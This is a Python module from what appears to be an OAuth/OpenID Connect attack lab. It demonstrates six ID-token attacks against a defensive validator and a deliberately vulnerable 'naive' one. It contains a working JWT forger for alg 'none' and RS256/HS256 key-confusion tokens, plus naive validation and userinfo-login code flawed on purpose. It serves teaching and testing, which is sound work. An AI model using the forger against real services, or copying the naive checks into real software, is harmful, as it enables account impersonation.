"""Attack 9: OpenID Connect: an ID token in the wrong place, injected, forged; OAuth as login.

The access token is for the API: its audience is the resource (RFC 9068 3, RFC 8707).
The ID token is for the client: its `aud` is the client_id (OIDC Core 2), and it
says who signed in, to this client, for this request (its `nonce`). Each attack
here uses one where the other belongs, or a token made for someone else:

    id_token_at_api               an ID token sent to the API as a bearer token
    id_token_from_another_client  a victim's ID token issued to the attacker's app
    id_token_from_another_flow    a victim's ID token from her own earlier sign-in
    forged_alg_none               an ID token with alg "none" and no signature
    key_confusion                 an HS256 token keyed with the issuer's PUBLIC key
    oauth_as_login                an access token taken as proof of who signed in

Each runs against the defence (the kit's API, `check_id_token`) and, when asked,
against the NAIVE version below: code written to show the mistake, never to use.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any

import httpx
from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa

from ..client import (
    Application,
    AuthorizationRequest,
    ClientError,
    IdTokenCheck,
    PkcePair,
    TokenResponse,
    check_id_token,
    decode_jwt,
    fetch_jwks,
    fetch_userinfo,
    new_client,
    parse_www_authenticate,
)
from ..client.jws import public_key
from ._steps import sign_in
from .registry import attack_on
from .result import AttackResult, Lesson, Unsupported, sentence
from .scenario import Target, TargetLike, as_target, evil_twin

CORE = "OpenID Connect Core 1.0"


# ---------------------------------------------------------------- the NAIVE client


class NaiveRefusal(ValueError):
    """The naive validator refused a token (only a bad signature makes it refuse)."""


def naive_validate(id_token: str, jwks: Mapping[str, Any]) -> dict[str, Any]:
    """THE NAIVE CLIENT'S ID TOKEN CHECK, for the lab only: never use it.

    It trusts the token's own header: alg "none" needs no signature; an HS* alg
    is verified as an HMAC keyed with the issuer's public key (its PEM text, as
    old JWT libraries did when handed "the key"); RS256 with the key of the kid.
    It checks neither iss, aud, nonce, exp nor at_hash, and returns the claims:
    it accepts any validly-signed ID token, whoever it was issued to.
    """
    token = decode_jwt(id_token)
    alg = token.header.get("alg")
    if alg == "none":
        return token.claims  # "no signature": it believes the claims as they are
    keys = [k for k in jwks.get("keys", []) if isinstance(k, dict)]
    kid = token.header.get("kid")
    key = next((k for k in keys if kid is None or k.get("kid") == kid), None)
    if key is None:
        raise NaiveRefusal(f"no key with kid={kid!r}")
    if isinstance(alg, str) and alg.startswith("HS"):
        secret = public_pem(key)
        expected = hmac.new(secret, token.signing_input, hashlib.sha256).digest()
        if not hmac.compare_digest(expected, token.signature):
            raise NaiveRefusal("the HMAC does not match")
        return token.claims
    rsa_key = public_key(key)
    if not isinstance(rsa_key, rsa.RSAPublicKey):
        raise NaiveRefusal("not an RSA key")
    try:
        rsa_key.verify(token.signature, token.signing_input, padding.PKCS1v15(), hashes.SHA256())
    except InvalidSignature as exc:
        raise NaiveRefusal("the signature does not verify") from exc
    return token.claims


def naive_userinfo_login(userinfo_url: str, access_token: str, http: httpx.Client) -> str:
    """THE NAIVE CLIENT'S LOGIN, for the lab only: whoever userinfo names for any access
    token is signed in. No ID token, so nothing says the token was issued to this client."""
    return fetch_userinfo(userinfo_url, access_token, expected_sub=None, http=http).sub


def public_pem(jwk: Mapping[str, Any]) -> bytes:
    """The issuer's public key as PEM text: what anyone can download from jwks_uri."""
    return public_key(jwk).public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )


# ---------------------------------------------------------------- forging, step by step


def b64url(data: bytes) -> str:
    """base64url without padding (RFC 7515 2).

    >>> b64url(b'{"alg":"none"}')
    'eyJhbGciOiJub25lIn0'
    """
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


@dataclass(frozen=True)
class Forgery:
    """A token the attacker wrote herself, and each step she took."""

    token: str
    steps: tuple[str, ...]

    def __str__(self) -> str:
        return "\n".join(f"{n}. {step}" for n, step in enumerate(self.steps, start=1))


def forge(claims: Mapping[str, Any], alg: str, jwks: Mapping[str, Any] | None = None) -> Forgery:
    """An ID token with the attacker's claims: alg "none" (no signature) or "HS256"
    keyed with the issuer's published public key (the first key of `jwks`)."""
    header: dict[str, Any] = {"alg": alg, "typ": "JWT"}
    secret = b""
    if alg == "HS256":
        if not jwks or not jwks.get("keys"):
            raise Unsupported("The key confusion needs the issuer's JWKS, and it has no keys.")
        key = jwks["keys"][0]
        header["kid"] = key.get("kid")
        secret = public_pem(key)
    elif alg != "none":
        raise ValueError(f"forge() writes alg none or HS256, not {alg!r}")
    head = b64url(json.dumps(header, separators=(",", ":")).encode())
    body = b64url(json.dumps(dict(claims), separators=(",", ":")).encode())
    signing_input = f"{head}.{body}"
    steps = [
        f"header: {json.dumps(header)}, base64url-encoded",
        "claims: the ones chosen (here the attacker's own, sub changed), base64url-encoded",
    ]
    if alg == "none":
        signature = ""
        steps.append(
            'signature: none, since alg "none" says there is none: the third part is empty'
        )
    else:
        mac = hmac.new(secret, signing_input.encode("ascii"), hashlib.sha256).digest()
        signature = b64url(mac)
        steps.append(
            "signature: HMAC-SHA256 over header.claims, keyed with the issuer's public key as "
            f"PEM text ({len(secret)} bytes from jwks_uri, which anyone can download): "
            f"{len(mac)} bytes, base64url-encoded"
        )
    token = f"{signing_input}.{signature}"
    steps.append("the token: the three parts joined by dots, header.claims.signature")
    return Forgery(token, tuple(steps))


# ---------------------------------------------------------------- the cast's sign-ins


@dataclass(frozen=True)
class SignIn:
    """One finished OpenID Connect code flow: what the client sent and what came back."""

    application: Application
    nonce: str | None
    tokens: TokenResponse

    @property
    def id_token(self) -> str:
        if self.tokens.id_token is None:
            raise Unsupported("The token response carried no id_token, though openid was asked.")
        return self.tokens.id_token

    @property
    def claims(self) -> dict[str, Any]:
        return decode_jwt(self.id_token).claims


def openid_scope(t: Target) -> str:
    """The probe's scope, with openid; Unsupported when the server does not do OIDC."""
    endpoints = t.endpoints()
    if "openid" not in endpoints.scopes_supported or endpoints.jwks_uri is None:
        raise Unsupported(
            "The provider does not do OpenID Connect: its metadata lists no openid scope "
            "in scopes_supported, or no jwks_uri (Discovery 1.0 Section 3)."
        )
    scope = t.probe_scope() or "openid"
    return scope if "openid" in scope.split() else f"openid {scope}"


def signed_in(t: Target, app: Application, who: str, nonce: str | None = None) -> SignIn:
    """`who` ("victim" or "attacker") signs in at `app` with openid; `nonce` given or fresh."""
    account = t.victim if who == "victim" else t.attacker
    pkce = PkcePair.generate(t.token_factory)
    with t.flow(app) as flow:
        request = AuthorizationRequest.build(
            t.endpoints().authorization_endpoint,
            app.client_id,
            app.redirect_uri or t.redirect_uri,
            scope=openid_scope(t),
            pkce=pkce,
            nonce=nonce,
            token_factory=t.token_factory,
        )
        flow.use_request(request, pkce)
        page = sign_in(flow.browser, request.url, account)
        if page.kind != "redirect":
            raise Unsupported(
                f"{account.username}'s sign-in did not end in a redirect: {page.describe()}"
            )
        flow.receive_redirect()
        tokens = flow.exchange_code()
    return SignIn(app, request.nonce, tokens)


def jwks_of(t: Target) -> dict[str, Any]:
    jwks_uri = t.endpoints().jwks_uri
    if jwks_uri is None:
        raise Unsupported("The server lists no jwks_uri: it publishes no keys.")
    with new_client(t.verify) as http:
        return fetch_jwks(jwks_uri, http=http)


def checked(t: Target, id_token: str, session: SignIn) -> IdTokenCheck:
    """What the honest client's check makes of `id_token` in `session` (its nonce, its id)."""
    with new_client(t.verify) as http:
        return check_id_token(
            id_token,
            issuer=t.endpoints().issuer,
            client_id=session.application.client_id,
            jwks_uri=t.endpoints().jwks_uri,
            nonce=session.nonce,
            algorithms=tuple(t.endpoints().id_token_signing_alg_values_supported) or ("RS256",),
            http=http,
        )


def refusal(check: IdTokenCheck) -> str:
    """The steps that failed, each with its words: 'aud: The token is meant for ...'."""
    return " ".join(f"{step.name}: {step.problem}" for step in check.failures)


def _first_sentence(check: IdTokenCheck) -> str:
    """The first failure's first sentence: 'The token is meant for 'x', not for ...'."""
    first, _, _ = check.failures[0].problem.partition(". ")
    return sentence(first)


def _who(sub: object, cast: Mapping[str, str]) -> str:
    name = next((name for name, known in cast.items() if known == sub), None)
    return f"{name} (sub {sub})" if name else f"sub {sub}"


# ---------------------------------------------------------------- 1. the ID token at the API

AT_API = Lesson(
    "ID token sent to the API",
    "OIDC Core 2; RFC 6750 3.1; RFC 9068 4",
    "The API takes only access tokens issued for it: an ID token's aud is a client_id, "
    "not the resource, and it carries no scope.",
)


@attack_on(None, defence="the API takes only its own access tokens, never an ID token")
def id_token_at_api(target: TargetLike, *, naive_api: bool = False) -> AttackResult:
    """The client sends the ID token to the photos API as a bearer token; `naive_api`:
    an API that takes any token signed by the issuer (the lab's naive validator)."""
    t = as_target(target)
    if t.api_url is None:
        raise Unsupported("There is no API URL to send the ID token to: give api_url.")
    openid_scope(t)  # Unsupported, saying so, where there is no OpenID Connect
    session = signed_in(t, t.register(), "victim")
    claims = session.claims
    steps = [
        f"{t.victim.username} signs in at the client with openid; the token response has an "
        f"access_token and an id_token whose aud is {claims.get('aud')!r}, the client's id",
        f"the client sends the id_token to {t.api_url} as 'Authorization: Bearer <id_token>'",
    ]
    evidence: dict[str, object] = {
        "ID token aud": claims.get("aud"),
        "access token": _access_token_audience(session.tokens.access_token),
    }
    if naive_api:
        opened = naive_validate(session.id_token, jwks_of(t))
        steps.append(
            "the NAIVE API checks only that the issuer's key signed it, and serves the "
            f"photos of sub {opened.get('sub')}"
        )
        evidence["naive API served"] = f"the photos of sub {opened.get('sub')}"
        return AT_API.result(
            True,
            "The naive API took the ID token as an access token: it checked the signature "
            "but not what the token is for. Any app the user signs in to receives such a "
            "token for its own client_id, and could open the user's photos with it.",
            steps,
            evidence,
            reason=f"A naive API served the photos for an ID token with aud={claims.get('aud')!r}.",
        )
    with new_client(t.verify) as http:
        response = http.get(t.api_url, headers={"Authorization": f"Bearer {session.id_token}"})
    challenge = response.headers.get("www-authenticate", "")
    evidence["API answered"] = response.status_code
    evidence["WWW-Authenticate"] = challenge
    refused = (
        response.status_code == 401
        and parse_www_authenticate(challenge).get("error") == "invalid_token"
    )
    steps.append(f"the API answers {response.status_code} with WWW-Authenticate: {challenge}")
    if refused:
        return AT_API.result(
            False,
            f'The API refused the ID token ({response.status_code}, error="invalid_token"): '
            "it knows only the access tokens it was issued for. The ID token was meant for "
            "the client (its aud), to say who signed in; it grants nothing at the API.",
            steps,
            evidence,
            reason=sentence(
                f"{t.api_url} answered {response.status_code} to the ID token, with "
                f"WWW-Authenticate: {challenge}"
            ),
        )
    return AT_API.result(
        response.is_success,
        f"The API answered {response.status_code} to the ID token"
        + (": it took it as an access token." if response.is_success else "."),
        steps,
        evidence,
        reason=sentence(f"{t.api_url} answered {response.status_code} to the ID token"),
    )


def _access_token_audience(access_token: str) -> str:
    try:
        claims = decode_jwt(access_token).claims
    except ClientError:
        return "opaque: the API looks it up in the server's own records"
    return f"a JWT (RFC 9068) with aud={claims.get('aud')!r}, the resource"


# ---------------------------------------------------------------- 2 and 3. injected ID tokens

FROM_CLIENT = Lesson(
    "ID token from another client",
    f"{CORE} 3.1.3.7 item 3",
    "The client checks that aud is its own client_id (and azp): a token issued to "
    "another app is refused even when its nonce was copied.",
)
FROM_FLOW = Lesson(
    "ID token from another flow",
    f"{CORE} 3.1.3.7 item 11, 15.5.2",
    "The client checks that the nonce is the one its own request sent: a token from "
    "another sign-in carries another nonce.",
)


@attack_on(None, defence="check_id_token's aud check (aud = the client_id)")
def id_token_from_another_client(target: TargetLike, *, naive: bool = False) -> AttackResult:
    """The victim signs in at the attacker's app; the attacker injects that ID token into
    her own session at the honest client, with her session's nonce copied in."""
    t = as_target(target)
    openid_scope(t)  # Unsupported, saying so, where there is no OpenID Connect
    honest = t.register()
    own = signed_in(t, honest, "attacker")  # her session at the honest client: its nonce
    evil_app = t.register(
        "Mallory's Quiz", redirect_uris=[evil_twin(honest.redirect_uri or t.redirect_uri)]
    )
    stolen = signed_in(t, evil_app, "victim", nonce=own.nonce)
    cast = {t.victim.username: stolen.claims.get("sub"), t.attacker.username: own.claims["sub"]}
    steps = [
        f"{t.attacker.username} starts a sign-in at the honest client; its request's "
        f"nonce is {own.nonce}",
        f"{t.victim.username} signs in at {t.attacker.username}'s own app ({evil_app.client_id}),"
        f" whose request {t.attacker.username} wrote with that same nonce",
        f"{t.attacker.username}'s app gets {t.victim.username}'s ID token: aud "
        f"{stolen.claims.get('aud')!r}, nonce {stolen.claims.get('nonce')!r}",
        f"{t.attacker.username} hands it to the honest client as her session's ID token",
    ]
    return _injected(t, stolen.id_token, own, naive, steps, cast, FROM_CLIENT)


@attack_on(None, defence="check_id_token's nonce check (the nonce this request sent)")
def id_token_from_another_flow(target: TargetLike, *, naive: bool = False) -> AttackResult:
    """The victim's ID token from her own sign-in at the honest client (a log, a browser
    history leaked it) is injected into the attacker's session at the same client."""
    t = as_target(target)
    openid_scope(t)  # Unsupported, saying so, where there is no OpenID Connect
    honest = t.register()
    stolen = signed_in(t, honest, "victim")
    own = signed_in(t, honest, "attacker")
    cast = {t.victim.username: stolen.claims.get("sub"), t.attacker.username: own.claims["sub"]}
    steps = [
        f"{t.victim.username} signs in at the client; her ID token (nonce "
        f"{stolen.claims.get('nonce')!r}) leaks, by a log or a front-channel response",
        f"{t.attacker.username} starts her own sign-in at the same client; its nonce is "
        f"{own.nonce}",
        f"{t.attacker.username} hands the client {t.victim.username}'s ID token as her "
        "session's (aud is right: the same client)",
    ]
    return _injected(t, stolen.id_token, own, naive, steps, cast, FROM_FLOW)


def _injected(
    t: Target,
    id_token: str,
    session: SignIn,
    naive: bool,
    steps: list[str],
    cast: Mapping[str, object],
    lesson: Lesson,
) -> AttackResult:
    """The honest client takes `id_token` in the attacker's `session`: whom does it sign in?"""
    names = {name: str(sub) for name, sub in cast.items()}
    if naive:
        claims = naive_validate(id_token, jwks_of(t))
        who = _who(claims.get("sub"), names)
        steps.append(f"the NAIVE client verifies the signature only, and signs in {who}")
        return lesson.result(
            claims.get("sub") == names.get(t.victim.username),
            f"The naive client signed {t.attacker.username}'s session in as {who}: the "
            "signature was the issuer's, and nothing else was checked.",
            steps,
            {"signed in as": who, "aud": claims.get("aud"), "nonce": claims.get("nonce")},
            reason=f"A naive client signed the attacker in as {who}.",
        )
    check = checked(t, id_token, session)
    failed = ", ".join(step.name for step in check.failures)
    steps.append(f"check_id_token: {'valid' if check.valid else 'refused at ' + failed}")
    evidence: dict[str, object] = {
        step.name: f"{step.outcome}: {step.value}"
        for step in check.steps
        if step.name in ("signature", "aud", "nonce")
    }
    if check.valid:
        who = _who(check.claims.get("sub"), names)
        return lesson.result(
            True,
            f"check_id_token accepted the injected token: the session is {who}'s.",
            steps,
            evidence,
            reason=f"check_id_token accepted an injected ID token for {who}.",
        )
    return lesson.result(
        False,
        f"check_id_token refused the injected token ({failed}). {refusal(check)}",
        steps,
        evidence,
        reason=f"check_id_token refused it at {failed}: {_first_sentence(check)}",
    )


# ---------------------------------------------------------------- 4 and 5. forged ID tokens

NONE = Lesson(
    'ID token with alg "none"',
    f"{CORE} 3.1.3.7 items 6, 7; RFC 8725 2.1, 3.1",
    'The client chooses the algorithm (RS256), never the token: alg "none" is refused.',
)
CONFUSION = Lesson(
    "RS256/HS256 key confusion",
    f"{CORE} 3.1.3.7 item 7; RFC 8725 2.1, 3.1",
    "The client verifies only the asymmetric algorithm it expects, with the public key "
    "as a public key: an HS256 token is refused before any key is used.",
)


@attack_on(None, defence="check_id_token refuses alg none")
def forged_alg_none(target: TargetLike, *, naive: bool = False) -> AttackResult:
    """The attacker takes her own ID token, puts the victim's sub in it, alg "none"."""
    return _forged(as_target(target), "none", naive, NONE)


@attack_on(None, defence="check_id_token refuses HMAC algorithms")
def key_confusion(target: TargetLike, *, naive: bool = False) -> AttackResult:
    """The attacker signs her edited ID token with HS256, keyed with the issuer's public key."""
    return _forged(as_target(target), "HS256", naive, CONFUSION)


def _forged(t: Target, alg: str, naive: bool, lesson: Lesson) -> AttackResult:
    openid_scope(t)  # Unsupported, saying so, where there is no OpenID Connect
    honest = t.register()
    victim_sub = signed_in(t, honest, "victim").claims.get("sub")
    own = signed_in(t, honest, "attacker")
    jwks = jwks_of(t)
    claims = {**own.claims, "sub": victim_sub}
    forgery = forge(claims, alg, jwks)
    cast = {t.victim.username: str(victim_sub), t.attacker.username: str(own.claims["sub"])}
    steps = [
        f"{t.attacker.username} signs in at the client; her own ID token has the right "
        f"iss, aud and nonce, and sub {own.claims['sub']}",
        f"she knows {t.victim.username}'s sub ({victim_sub}): a sub is an identifier, not a secret",
        *(f"forging: {step}" for step in forgery.steps),
        "she hands the forged token to the client as her session's ID token",
    ]
    evidence: dict[str, object] = {"forged token": forgery.token}
    if naive:
        try:
            opened = naive_validate(forgery.token, jwks)
        except NaiveRefusal as exc:
            steps.append(f"the NAIVE validator refuses it: {exc}")
            return lesson.result(
                False,
                f"Even the naive validator refused it: {exc}.",
                steps,
                evidence,
                reason=f"The naive validator refused it: {exc}.",
            )
        who = _who(opened.get("sub"), cast)
        steps.append(f"the NAIVE validator trusts the header's alg {alg!r} and signs in {who}")
        evidence["signed in as"] = who
        return lesson.result(
            opened.get("sub") == victim_sub,
            f"The naive validator accepted the forged token and signed {t.attacker.username} "
            f"in as {who}: it let the token choose its algorithm.",
            steps,
            evidence,
            reason=f"A naive validator accepted an alg {alg!r} forgery as {who}.",
        )
    check = checked(t, forgery.token, own)
    failed = ", ".join(step.name for step in check.failures)
    evidence["check_id_token"] = "valid" if check.valid else f"refused at {failed}"
    steps.append(f"check_id_token: {evidence['check_id_token']}")
    if check.valid:
        who = _who(check.claims.get("sub"), cast)
        return lesson.result(
            True,
            f"check_id_token accepted the forgery as {who}.",
            steps,
            evidence,
            reason=f"check_id_token accepted a forgery as {who}.",
        )
    return lesson.result(
        False,
        f"check_id_token refused the forged token ({failed}). {refusal(check)}",
        steps,
        evidence,
        reason=f"check_id_token refused an alg {alg!r} forgery at {failed}.",
    )


# ---------------------------------------------------------------- 6. OAuth is not authentication

AS_LOGIN = Lesson(
    "An access token taken as proof of login",
    f"{CORE} 3.1.3.7 item 3; RFC 6749 10.16",
    "The client signs a user in only on an ID token it checked, whose aud is its own "
    "client_id; an access token says what some client may do, not who signed in here.",
)


@attack_on(None, defence="signing in only on a checked ID token (aud = the client_id)")
def oauth_as_login(target: TargetLike, *, id_token_check: bool = True) -> AttackResult:
    """The victim signs in at the attacker's app; the attacker hands its access token (and
    ID token) to the honest client, which signs in whoever the token opens at userinfo
    (`id_token_check=False`) or checks the ID token (the defence)."""
    t = as_target(target)
    openid_scope(t)  # Unsupported, saying so, where there is no OpenID Connect
    userinfo_url = t.endpoints().userinfo_endpoint
    if userinfo_url is None:
        raise Unsupported(
            "The provider does not do OpenID Connect fully: it lists no userinfo_endpoint."
        )
    honest = t.register()
    own = signed_in(t, honest, "attacker")
    evil_app = t.register(
        "Mallory's Quiz", redirect_uris=[evil_twin(honest.redirect_uri or t.redirect_uri)]
    )
    stolen = signed_in(t, evil_app, "victim", nonce=own.nonce)
    cast = {
        t.victim.username: str(stolen.claims.get("sub")),
        t.attacker.username: str(own.claims["sub"]),
    }
    steps = [
        f"{t.victim.username} signs in at {t.attacker.username}'s own app ({evil_app.client_id})"
        f"; the app gets an access token for {t.victim.username}",
        f"{t.attacker.username} hands that access token to the honest client, which signs "
        "in users whose app sends it a token (as a mobile app's backend does)",
    ]
    if not id_token_check:
        with new_client(t.verify) as http:
            sub = naive_userinfo_login(userinfo_url, stolen.tokens.access_token, http)
        who = _who(sub, cast)
        steps.append(f"the NAIVE client asks userinfo who the token is for, and signs in {who}")
        return AS_LOGIN.result(
            sub == cast[t.victim.username],
            f"The naive client signed {t.attacker.username} in as {who}: userinfo said "
            "whose the token is, not which client it was issued to (a confused deputy).",
            steps,
            {"userinfo sub": sub, "signed in as": who},
            reason=f"A client taking an access token as login signed the attacker in as {who}.",
        )
    check = checked(t, stolen.id_token, own)
    failed = ", ".join(step.name for step in check.failures)
    steps.append(
        f"the client wants an ID token for its own client_id; {t.attacker.username} hands "
        f"it the one her app got (aud {stolen.claims.get('aud')!r}): "
        + ("valid" if check.valid else f"refused at {failed}")
    )
    evidence: dict[str, object] = {
        "ID token aud": stolen.claims.get("aud"),
        "client_id": honest.client_id,
    }
    if check.valid:
        who = _who(check.claims.get("sub"), cast)
        return AS_LOGIN.result(
            True,
            f"The client accepted it as {who}.",
            steps,
            evidence,
            reason=f"The client accepted another app's ID token as {who}.",
        )
    return AS_LOGIN.result(
        False,
        f"The client refused to sign anyone in ({failed}). {refusal(check)}",
        steps,
        evidence,
        reason=f"check_id_token refused the other app's ID token at {failed}: "
        f"{_first_sentence(check)}",
    )
